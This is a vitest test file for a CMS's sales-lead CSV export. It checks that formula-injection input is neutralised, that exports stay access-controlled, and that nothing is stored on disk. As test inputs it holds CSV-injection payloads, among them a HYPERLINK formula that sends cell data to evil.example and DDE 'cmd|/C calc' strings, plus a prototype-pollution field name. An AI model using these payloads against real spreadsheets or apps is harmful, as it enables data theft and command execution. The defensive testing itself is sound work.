import fs from 'node:fs'
import path from 'node:path'

import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import type { Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'

import type { User } from '@/cms/payload-types'

import { type Booted } from './helpers/bootPayload'
import { bootLeads } from './helpers/bootLeads'
import { anyValue, mostly } from './helpers/leadArbitraries'

/*
 * Issue 33, findings 5 (a visitor's text exported to CSV as a spreadsheet formula) and 6 (exports
 * left on disk, other collections answered 500, a download that never answers, GraphQL's
 * createExport a 500), replayed through the app's own routes.
 */

vi.hoisted(() => {
  // A throwaway DATA_DIR until bootPayload sets the real one (see helpers/bootLeads.ts); GraphQL is off by default.
  Object.assign(process.env, { DATA_DIR: '/tmp/cw-lead-tests-unbooted', CRM_ADAPTER: 'none', GRAPHQL_ENABLED: 'true' })
})

type Who = 'admin' | 'sales' | 'editor' | 'anonymous'
const PASSWORD = 'a long test password'
/** Long enough for any export here on a busy machine; the old download never answered at all. */
const DEADLINE_MS = 10_000

let booted: Booted
let payload: Payload
let routes: typeof import('./helpers/cmsRoute')
let users: Record<Exclude<Who, 'anonymous'>, User>
const headers: Record<Who, Record<string, string>> = { admin: {}, sales: {}, editor: {}, anonymous: {} }

beforeAll(async () => {
  booted = await bootLeads()
  payload = booted.payload
  routes = await import('./helpers/cmsRoute')
  const make = async (role: Exclude<Who, 'anonymous'>) => {
    const user = await payload.create({ collection: 'users', data: { email: `export-${role}@cipherwell.test`, password: PASSWORD, roles: [role] } })
    const { token } = await payload.login({ collection: 'users', data: { email: user.email, password: PASSWORD } })
    headers[role] = { authorization: `JWT ${token}` }
    return user
  }
  users = { admin: await make('admin'), sales: await make('sales'), editor: await make('editor') }
})
afterAll(async () => {
  await booted?.shutdown()
})

/** The answer, or a failure naming the request when none comes within the deadline. */
async function answered<T>(what: string, answer: Promise<T>): Promise<T> {
  let timer: NodeJS.Timeout | undefined
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no answer within ${DEADLINE_MS} ms: ${what}`)), DEADLINE_MS)
  })
  return Promise.race([answer, late]).finally(() => clearTimeout(timer))
}

/** POST /api/exports/download as the export form sends it (`body` whole, so tests can send anything). */
const download = (body: unknown, who: Who) =>
  answered(`download ${String(JSON.stringify(body)).slice(0, 200)} as ${who}`, routes.postJson('/exports/download', body, { headers: headers[who] }))

const csvOf = (answer: { status: number; headers: Headers; body: Record<string, unknown> }) => {
  expect(answer.status, JSON.stringify(answer.body).slice(0, 300)).toBe(200)
  expect(answer.headers.get('content-type')).toMatch(/^text\/csv/)
  return String(answer.body.text)
}

/** Each record as column → cell, parsed strictly (RFC 4180 quoting, every record as wide as the header). */
const records = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[]

/** Files under DATA_DIR/exports, where the plugin's upload collection would keep them. */
const storedExports = () => {
  const dir = path.join(booted.dataDir, 'exports')
  return fs.existsSync(dir) ? fs.readdirSync(dir) : []
}

const expectNothingStored = async () => {
  expect(storedExports()).toEqual([])
  expect((await payload.count({ collection: 'exports' })).totalDocs).toBe(0)
}

const leadsBody = (data: Record<string, unknown> = {}) => ({ data: { collectionSlug: 'leads', format: 'csv', drafts: 'yes', ...data } })

describe('finding 5: a lead’s text reaches the CSV as text, never as a formula', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

  it('puts a quote before every cell that would start a formula, whatever the field, and the CSV still parses', async () => {
    const { storeLead } = await import('@/features/leads/storeLead')
    const contact = await storeLead(payload, 'sales-contacts', {
      firstName: FORMULA,
      lastName: 'Doe',
      email: 'formula-contact@example.com',
      message: 'Hello',
      captcha: 'skipped',
      topic: "@SUM(1+1)*cmd|' /C calc'!A0",
      attribution: { utmSource: '+cmd', utmCampaign: '-2+3' },
    })
    const beta = await storeLead(payload, 'beta-signups', { firstName: 'Grace', lastName: 'Hopper', company: '=1+1', email: 'formula-beta@example.com', topic: 'asv-scanning' })
    // Staff-typed text too: the lead's form trims what visitors send, so the tab and CR come by the
    // notes, which staff typed before the notes log (read-only since, so written past access here).
    const rowOf = async (field: 'salesContact' | 'betaSignup', id: string) =>
      (await payload.find({ collection: 'leads', where: { [field]: { equals: id } }, depth: 0 })).docs[0]!
    const contactRow = await rowOf('salesContact', contact.id)
    const betaRow = await rowOf('betaSignup', beta.id)
    await payload.update({ collection: 'leads', id: contactRow.id, data: { notes: '\t=1+1' } })
    await payload.update({ collection: 'leads', id: betaRow.id, data: { notes: '\r=cmd|"/C calc"!A0' } })
    // And a name: the owner's is written into the export, so it is neutralised like any cell.
    const named = await payload.create({ collection: 'users', data: { email: 'formula-owner@cipherwell.test', password: PASSWORD, name: '=2+3', roles: ['sales'] } })
    await payload.update({ collection: 'leads', id: contactRow.id, data: { owner: named.id }, overrideAccess: false, user: users.sales })

    const csv = csvOf(await download(leadsBody({ where: { email: { like: 'formula-' } } }), 'sales'))
    const byEmail = new Map(records(csv).map((record) => [record.email, record]))
    expect(byEmail.get('formula-contact@example.com')).toMatchObject({
      name: `'${FORMULA} Doe`,
      topic: "'@SUM(1+1)*cmd|' /C calc'!A0",
      utmSource: "'+cmd",
      utmCampaign: "'-2+3",
      notes: "'\t=1+1",
      owner: "'=2+3",
      form: 'Sales contact',
    })
    expect(byEmail.get('formula-beta@example.com')).toMatchObject({ name: 'Grace Hopper', company: "'=1+1", notes: '\'\r=cmd|"/C calc"!A0' })
    // The quote is inside the quoted cell, and the formula's own quotes are doubled (RFC 4180).
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"") Doe"`)
    for (const record of records(csv))
      for (const [column, cell] of Object.entries(record)) expect(cell, `${record.email} ${column}`).not.toMatch(/^[=+\-@\t\r\0]/)
  })
})

describe('finding 6: exports are streamed to the requester and never stored', () => {
  it('downloads the inbox as CSV to sales staff and admins: the rows they may read, and no file left', async () => {
    const { storeLead } = await import('@/features/leads/storeLead')
    await storeLead(payload, 'demo-requests', { email: 'export-demo@example.com' })
    for (const who of ['sales', 'admin'] as const) {
      const exported = records(csvOf(await download(leadsBody(), who))).map((record) => Number(record.id))
      const readable = await payload.find({ collection: 'leads', overrideAccess: false, user: users[who], pagination: false, depth: 0 })
      expect(exported.sort()).toEqual(readable.docs.map((doc) => Number(doc.id)).sort())
      expect(exported.length).toBeGreaterThan(0)
    }
    await expectNothingStored()
  })

  it('answers a download without drafts at once, with the CSV', async () => {
    const csv = csvOf(await download({ data: { collectionSlug: 'leads', format: 'csv' } }, 'sales'))
    expect(records(csv).map((record) => record.email)).toContain('export-demo@example.com')
  })

  it('refuses to create an export document through REST, for everyone: a 4xx, no file, no document', async () => {
    for (const who of ['sales', 'admin', 'editor', 'anonymous'] as const)
      for (const collectionSlug of ['leads', 'users', 'pages']) {
        const answer = await answered('POST /api/exports', routes.postJson('/exports', { collectionSlug, format: 'csv', drafts: 'yes' }, { headers: headers[who] }))
        expect([401, 403], `${who} ${collectionSlug}: ${JSON.stringify(answer.body)}`).toContain(answer.status)
      }
    const refused = await routes.postJson('/exports', { collectionSlug: 'leads', format: 'csv', drafts: 'yes' }, { headers: headers.sales })
    expect(JSON.stringify(refused.body)).toMatch(/not stored: download/)
    await expectNothingStored()
  })

  it('answers GraphQL createExport with a 4xx error, not a 500, and stores nothing', async () => {
    for (const who of ['sales', 'admin', 'editor', 'anonymous'] as const)
      for (const collectionSlug of ['leads', 'users']) {
        const answer = await answered(
          'createExport',
          routes.cmsGraphql(`mutation { createExport(data: { collectionSlug: "${collectionSlug}", format: csv, drafts: yes }) { id filename } }`, { headers: headers[who] }),
        )
        const [error] = (answer.body.errors ?? []) as { extensions?: { statusCode?: number } }[]
        expect(error?.extensions?.statusCode, `${who} ${collectionSlug}: ${JSON.stringify(answer.body)}`).toBe(403)
      }
    await expectNothingStored()
  })

  it('exports the inbox only: another collection is a 400, never a 500 or its rows', async () => {
    for (const collectionSlug of ['users', 'pages', 'exports', 'payload-jobs', 'nope'])
      for (const who of ['sales', 'admin'] as const) {
        const answer = await download({ data: { collectionSlug, format: 'csv', drafts: 'yes' } }, who)
        expect(answer.status, `${who} ${collectionSlug}`).toBe(400)
        expect(JSON.stringify(answer.body)).toMatch(/only the sales inbox/i)
      }
  })

  it('keeps exports from editors and anonymous visitors', async () => {
    expect((await download(leadsBody(), 'anonymous')).status).toBe(401)
    expect((await download(leadsBody(), 'editor')).status).toBe(403)
  })

  it('answers a malformed body at once with a 4xx', async () => {
    const bodies: unknown[] = [
      {},
      { data: null },
      { data: { collectionSlug: 'leads', format: 'json' } },
      { data: { collectionSlug: 'leads', where: { _status: { equals: 'published' } } } },
      { data: { collectionSlug: 'leads', where: { nope: { equals: 1 } } } },
      { data: { collectionSlug: 'leads', where: [] } },
      { data: { collectionSlug: 'leads', limit: -1 } },
      { data: { collectionSlug: 'leads', page: 0 } },
      { data: { collectionSlug: 'leads', fields: ['__proto__.polluted'] } },
    ]
    for (const body of bodies) {
      const answer = await download(body, 'sales')
      expect(answer.status, JSON.stringify(body)).toBeGreaterThanOrEqual(400)
      expect(answer.status, JSON.stringify(body)).toBeLessThan(500)
    }
    await expectNothingStored()
  })

  it('answers any body at once with the CSV or a 4xx (fuzzed)', async () => {
    // Mostly what the form could send, so that many bodies reach the plugin's stream; now and then anything.
    const word = fc.string({ maxLength: 8 })
    const condition = fc.dictionary(fc.constantFrom('equals', 'like', 'in', 'exists', 'greater_than'), fc.oneof(word, fc.boolean(), fc.integer(), fc.array(word, { maxLength: 2 })), { maxKeys: 2 })
    const data = fc.record(
      {
        collectionSlug: mostly(fc.oneof({ weight: 6, arbitrary: fc.constant('leads') }, { weight: 1, arbitrary: fc.constantFrom('users', 'exports') })),
        format: mostly(fc.oneof({ weight: 6, arbitrary: fc.constant('csv') }, { weight: 1, arbitrary: fc.constant('json') })),
        drafts: mostly(fc.constantFrom('yes', 'no')),
        name: mostly(word),
        fields: mostly(fc.array(fc.constantFrom('email', 'name', 'owner', 'createdAt', 'nope', 'owner.email'), { maxLength: 4 })),
        where: mostly(fc.dictionary(fc.constantFrom('email', 'form', 'owner', 'owner.email', 'createdAt', '_status', 'nope'), condition, { maxKeys: 2 })),
        sort: mostly(fc.constantFrom('email', '-createdAt', 'owner', 'nope', '-_status')),
        limit: mostly(fc.integer({ min: 0, max: 3 })),
        page: mostly(fc.integer({ min: 1, max: 3 })),
      },
      { requiredKeys: ['collectionSlug'] },
    )
    await fc.assert(
      fc.asyncProperty(fc.oneof({ weight: 9, arbitrary: fc.record({ data }) }, { weight: 1, arbitrary: anyValue }), async (body) => {
        const answer = await download(body, 'sales')
        if (answer.status === 200) records(csvOf(answer))
        else expect(answer.status, JSON.stringify(answer.body)).toBeGreaterThanOrEqual(400)
        expect(answer.status).toBeLessThan(500)
      }),
      { numRuns: 300 },
    )
    await expectNothingStored()
  })
})

/*
 * Issue 34, item 8: "Use all documents" exported 10 of 25 leads (the export form's Limit 10 /
 * Page 1, copied from the list, still applied), the owner as "3" and the form as "salesContact",
 * without message or notes.
 */
describe('issue 34, item 8: an export that can be trusted', () => {
  const ISO_8601 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/
  const pipeline = Array.from({ length: 25 }, (_, index) => `pipeline-${String(index + 1).padStart(2, '0')}@example.com`)
  const ofPipeline = { email: { like: 'pipeline-' } }
  /** What the export form sent as the list opened it: its page size and page, with "Use all documents". */
  const asTheListLeftIt = { selectionToUse: 'all', where: {}, limit: 10, page: 1, sort: '-createdAt', name: 'leads' }
  let worked: Record<string, unknown>

  beforeAll(async () => {
    const { storeLead } = await import('@/features/leads/storeLead')
    for (const email of pipeline)
      await storeLead(payload, 'sales-contacts', { firstName: 'Pipe', lastName: 'Line', email, message: `Hello from ${email}`, captcha: 'skipped', topic: 'pci' })
    // One lead worked by sales: what the visitor's request carried (as the lead endpoints store
    // it), then status, owner and two notes, each by its author.
    const stored = await payload.find({ collection: 'leads', where: { email: { equals: pipeline[0] } }, depth: 0 })
    const id = stored.docs[0]!.id
    await payload.update({
      collection: 'leads',
      id,
      data: {
        sourcePage: '/products/vault',
        context: 'hero button',
        firstUtmSource: 'newsletter',
        firstUtmMedium: 'email',
        firstUtmCampaign: 'spring',
        utmSource: 'linkedin',
        utmMedium: 'paid',
        utmCampaign: 'autumn',
      },
    })
    await payload.update({
      collection: 'leads',
      id,
      data: { status: 'contacted', owner: users.admin.id, noteLog: [{ text: 'called, wants a demo' }] },
      overrideAccess: false,
      user: users.sales,
    })
    const noted = await payload.findByID({ collection: 'leads', id, depth: 0 })
    await payload.update({ collection: 'leads', id, data: { noteLog: [...(noted.noteLog ?? []), { text: 'demo booked' }] }, overrideAccess: false, user: users.admin })
    worked = (await payload.findByID({ collection: 'leads', id, depth: 0 })) as unknown as Record<string, unknown>
  })

  const fileName = (answer: { headers: Headers }) => /filename="([^"]+)"/.exec(answer.headers.get('content-disposition') ?? '')?.[1]

  it('exports every lead under "Use all documents", whatever page size the form carried from the list', async () => {
    const answer = await download(leadsBody(asTheListLeftIt), 'sales')
    const exported = records(csvOf(answer)).map((record) => record.email)
    const all = await payload.count({ collection: 'leads', overrideAccess: false, user: users.sales })
    expect(all.totalDocs).toBeGreaterThanOrEqual(25)
    expect(exported).toHaveLength(all.totalDocs)
    expect(exported).toEqual(expect.arrayContaining(pipeline))
    expect(fileName(answer)).toBe('leads.csv')
  })

  it('exports every lead that matches the current filters: 25 of 25', async () => {
    const answer = await download(leadsBody({ ...asTheListLeftIt, selectionToUse: 'currentFilters', where: ofPipeline }), 'sales')
    expect(records(csvOf(answer)).map((record) => record.email).sort()).toEqual(pipeline)
  })

  it('exports only the first few when the person asks, in the sort asked for, and names the file after them', async () => {
    const answer = await download(leadsBody({ ...asTheListLeftIt, where: ofPipeline, sort: 'email', rows: 'first', limit: 7 }), 'sales')
    expect(records(csvOf(answer)).map((record) => record.email)).toEqual(pipeline.slice(0, 7))
    expect(fileName(answer)).toBe('leads-first-7.csv')
    const named = await download(leadsBody({ where: ofPipeline, rows: 'first', limit: 10, name: 'q4 pipeline' }), 'sales')
    expect(records(csvOf(named))).toHaveLength(10)
    expect(fileName(named)).toBe('q4 pipeline-first-10.csv')
  })

  it('asks how many when the person chose "Only the first few" without saying', async () => {
    for (const limit of [undefined, 0]) {
      const answer = await download(leadsBody({ where: ofPipeline, rows: 'first', limit }), 'sales')
      expect(answer.status).toBe(400)
      expect(JSON.stringify(answer.body)).toMatch(/Say how many leads to export/)
    }
  })

  it('writes readable values: names, labels, ISO 8601 dates, the message, touches and notes', async () => {
    const csv = csvOf(await download(leadsBody({ where: ofPipeline }), 'sales'))
    const record = records(csv).find((each) => each.email === pipeline[0])!
    expect(record).toMatchObject({
      id: String(worked.id),
      form: 'Sales contact',
      name: 'Pipe Line',
      message: `Hello from ${pipeline[0]}`,
      topic: 'pci',
      sourcePage: '/products/vault',
      context: 'hero button',
      firstUtmSource: 'newsletter',
      firstUtmMedium: 'email',
      firstUtmCampaign: 'spring',
      utmSource: 'linkedin',
      utmMedium: 'paid',
      utmCampaign: 'autumn',
      status: 'Contacted',
      // The owner is another user, whom sales staff may not read: named all the same.
      owner: users.admin.name,
      updatedBy: users.admin.name,
    })
    expect(users.admin.name).toBe('Export Admin')
    const [first, second, ...more] = record.noteLog!.split('\n')
    expect(more).toEqual([])
    expect(first).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z Export Sales: called, wants a demo$/)
    expect(second).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z Export Admin: demo booked$/)
    for (const column of ['createdAt', 'updatedAt']) expect(record[column], column).toMatch(ISO_8601)
    expect(new Date(record.createdAt!).getTime()).toBe(new Date(String(worked.createdAt)).getTime())
    expect(['Queued', 'Delivered', 'Failed, retrying', 'Failed', 'Not sent (no CRM configured)']).toContain(record.delivery)
  })

  it('leaves out the columns that mean nothing to sales, and spreads no list over columns', async () => {
    const [header] = records(csvOf(await download(leadsBody({ where: ofPipeline }), 'sales'))).map(Object.keys)
    for (const column of ['message', 'topic', 'sourcePage', 'firstUtmCampaign', 'utmCampaign', 'status', 'owner', 'noteLog', 'notes'])
      expect(header, column).toContain(column)
    for (const column of ['salesContact', 'demoRequest', 'betaSignup', 'jobApplication', 'campaignSubmission', 'deliveryJob'])
      expect(header, column).not.toContain(column)
    expect(header!.filter((column) => /_\d+(_|$)/.test(column))).toEqual([])
  })

  it('opens the export form with nothing carried over from the list but its filters and sort', async () => {
    type FormField = { name?: string; type: string; fields?: FormField[]; defaultValue?: unknown; admin?: Record<string, unknown> }
    const flat = (fields: FormField[]): FormField[] => fields.flatMap((field) => [field, ...flat(field.fields ?? [])])
    const exports = payload.collections.exports.config
    const byName = new Map(flat(exports.fields as FormField[]).map((field) => [field.name, field]))
    // "How many" starts at every lead; the limit is asked for only after "Only the first few", and
    // no component fills it with the list's page size (the plugin's LimitField did).
    expect(byName.get('rows')).toMatchObject({ type: 'radio', defaultValue: 'all' })
    const limit = byName.get('limit')!
    expect((limit.admin?.components as Record<string, unknown> | undefined)?.Field).toBeUndefined()
    const shown = limit.admin?.condition as (data: Record<string, unknown>) => boolean
    expect([shown({ rows: 'all', limit: 10 }), shown({ rows: 'first' })]).toEqual([false, true])
    // The page and the list's columns ("Fields to export") are not asked for.
    for (const name of ['page', 'fields']) expect(byName.get(name)?.admin?.hidden, name).toBe(true)
    expect(exports.admin.components?.edit?.SaveButton).toBe('/cms/exports/DownloadButton.client#DownloadButton')
  })

  it('shows the same readable values in the export form’s preview', async () => {
    const answer = await answered(
      'export preview',
      routes.postJson('/exports/export-preview', { collectionSlug: 'leads', format: 'csv', draft: 'yes', where: { email: { equals: pipeline[0] } } }, { headers: headers.sales }),
    )
    expect(answer.status, JSON.stringify(answer.body).slice(0, 300)).toBe(200)
    const { docs, columns } = answer.body as { docs: Record<string, unknown>[]; columns: string[] }
    expect(docs[0]).toMatchObject({ form: 'Sales contact', status: 'Contacted', owner: 'Export Admin' })
    expect(columns).not.toContain('salesContact')
    expect(columns.filter((column) => column.startsWith('noteLog_'))).toEqual([])
  })
})
